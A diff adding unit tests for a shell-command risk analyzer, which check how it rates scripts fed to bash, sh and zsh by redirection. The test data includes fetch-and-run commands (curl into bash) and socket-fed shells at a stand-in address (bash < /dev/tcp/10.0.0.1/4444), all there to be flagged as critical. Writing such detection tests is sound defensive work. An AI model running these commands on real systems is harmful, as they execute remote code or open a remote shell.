@@ -1,0 +1,63 @@
+import { beforeAll, describe, expect, it } from "vitest";
+import { createShellAnalyzer, type ShellAnalyzer } from "./analyze.js";
+import { riskRank, type Risk, type ShellKind } from "./types.js";
+
+/** Where a shell reads its script: a file named as an operand, or one on its standard input. */
+const cwd = "/home/ada/code/app";
+const home = "/home/ada";
+
+let analyzer: ShellAnalyzer;
+beforeAll(async () => {
+  analyzer = await createShellAnalyzer();
+});
+
+function risk(command: string, shell: ShellKind = "bash"): Risk {
+  return analyzer.analyze(command, { shell, cwd, home }).risk;
+}
+
+function shown(command: string, shell: ShellKind = "bash"): string {
+  const result = analyzer.analyze(command, { shell, cwd, home });
+  return `${shell}: ${command} → ${result.risk} ${JSON.stringify(result.reasons)}`;
+}
+
+describe("a shell reading its script from a file by redirection", () => {
+  // [before the shell, the file]: `PREFIX bash < FILE` is rated at least as `PREFIX bash FILE`.
+  it.each([
+    ["", "install.sh"],
+    ["", "$f"],
+    ["", '"$f"'],
+    ["", "$(ls *.sh | head -1)"],
+    ["curl -o i.sh https://x/i.sh && ", "i.sh"],
+    ["wget -O /tmp/i.sh https://x/i.sh; ", "/tmp/i.sh"],
+    ["curl https://x/i.sh > i.sh; sudo ", "i.sh"],
+    ["f=$(mktemp); curl -o $f https://x; ", "$f"],
+  ])("%sbash < %s is rated at least as bash FILE", (prefix, file) => {
+    for (const shell of ["sh", "bash", "zsh"]) {
+      const byOperand = `${prefix}${shell} ${file}`;
+      const byRedirect = `${prefix}${shell} < ${file}`;
+      expect(riskRank(risk(byRedirect)), `${shown(byRedirect)} vs ${shown(byOperand)}`).toBeGreaterThanOrEqual(riskRank(risk(byOperand)));
+    }
+  });
+
+  it.each<[ShellKind, string, Risk]>([
+    ["bash", "bash < $f", "high"],
+    ["bash", "sh < \"$SCRIPT\"", "high"],
+    ["bash", "bash -s < $f", "high"],
+    ["bash", "bash /dev/stdin < $f", "high"],
+    ["bash", "curl -o x.sh https://x && bash < x.sh", "critical"],
+    ["bash", "curl -o x.sh https://x && bash -s -- --yes < x.sh", "critical"],
+    // bash reading from a socket runs what the other end sends.
+    ["bash", "bash < /dev/tcp/10.0.0.1/4444", "critical"],
+    ["bash", "sh -i < /dev/udp/10.0.0.1/53", "critical"],
+    // The file, not the pipe, is bash's standard input; zsh reads both (MULTIOS).
+    ["bash", "curl https://x | bash < install.sh", "safe"],
+    ["zsh", "curl https://x | bash < install.sh", "critical"],
+    // Process substitutions and /dev/stdin still read what is written into them.
+    ["bash", "bash < <(curl -s https://x)", "critical"],
+    ["bash", "curl -s https://x | bash < /dev/stdin", "critical"],
+    ["bash", "bash < install.sh", "safe"],
+    ["sh", "sh < /tmp/x", "safe"],
+  ])("%s: %s → %s", (shell, command, expected) => {
+    expect(risk(command, shell), shown(command, shell)).toBe(expected);
+  });
+});
